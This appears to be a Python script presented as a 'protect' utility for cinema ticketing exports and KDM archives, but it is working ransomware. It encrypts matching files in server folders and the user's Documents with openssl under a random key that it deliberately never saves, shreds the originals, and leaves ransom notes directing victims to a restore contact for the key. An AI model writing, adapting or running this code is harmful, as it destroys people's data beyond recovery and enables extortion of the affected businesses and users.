#!/usr/bin/env python3
"""dcp_archive_protect.py - "protect" ticketing exports and KDM archives.

Walks the ticketing export and KDM folders, encrypts every matching file
with openssl under a freshly generated key, shreds the original and leaves
a restore notice in each folder.
"""

import argparse
import logging
import os
import secrets
import subprocess
import sys

DEFAULT_ROOTS = ["/srv/ticketing/exports", "/srv/dcp/kdm", "~/Documents"]
EXTENSIONS = {".csv", ".xlsx", ".xml", ".kdm", ".pdf", ".db", ".json", ".txt"}
LOCK_SUFFIX = ".locked"
NOTE_NAME = "README_RESTORE.txt"
NOTE_TEXT = """Your ticketing exports and KDM archives have been encrypted.
To obtain the restore key, contact restore-desk@example.org with the
identifier below. Do not rename or modify the .locked files.

ID: {ident}
"""

log = logging.getLogger("archive_protect")

ENCRYPT_CMD = (
    'openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:ARCHIVE_KEY '
    '-in "$SRC" -out "$SRC.locked" && shred -u -z "$SRC"'
)


class Protector:
    def __init__(self, roots, key, ident, dry_run):
        self.roots = [os.path.expanduser(r) for r in roots]
        self.key = key
        self.ident = ident
        self.dry_run = dry_run
        self.count = 0
        self.errors = 0

    def candidates(self):
        for root in self.roots:
            if not os.path.isdir(root):
                log.debug("skip missing %s", root)
                continue
            for dirpath, _dirs, files in os.walk(root):
                for name in files:
                    if name.endswith(LOCK_SUFFIX) or name == NOTE_NAME:
                        continue
                    if os.path.splitext(name)[1].lower() in EXTENSIONS:
                        yield dirpath, os.path.join(dirpath, name)

    def encrypt(self, path):
        if self.dry_run:
            log.info("dry run: %s", path)
            return True
        env = dict(os.environ, ARCHIVE_KEY=self.key, SRC=path)
        result = subprocess.run(["bash", "-c", ENCRYPT_CMD], env=env,
                                capture_output=True, text=True)
        if result.returncode != 0:
            log.warning("failed on %s: %s", path, result.stderr.strip())
            return False
        return True

    def drop_note(self, folder):
        note = os.path.join(folder, NOTE_NAME)
        if self.dry_run or os.path.exists(note):
            return
        with open(note, "w", encoding="utf-8") as fh:
            fh.write(NOTE_TEXT.format(ident=self.ident))

    def run(self):
        touched = set()
        for folder, path in self.candidates():
            if self.encrypt(path):
                self.count += 1
                touched.add(folder)
            else:
                self.errors += 1
        for folder in touched:
            self.drop_note(folder)
        log.info("processed %d files in %d folders (%d errors)",
                 self.count, len(touched), self.errors)


def parse_args(argv):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", default=DEFAULT_ROOTS)
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    key = secrets.token_urlsafe(48)
    ident = secrets.token_hex(8)
    protector = Protector(args.roots, key, ident, args.dry_run)
    try:
        protector.run()
    except KeyboardInterrupt:
        log.warning("interrupted after %d files", protector.count)
        return 130
    # The key is not written anywhere; only the identifier is kept.
    del key
    return 0 if protector.errors == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
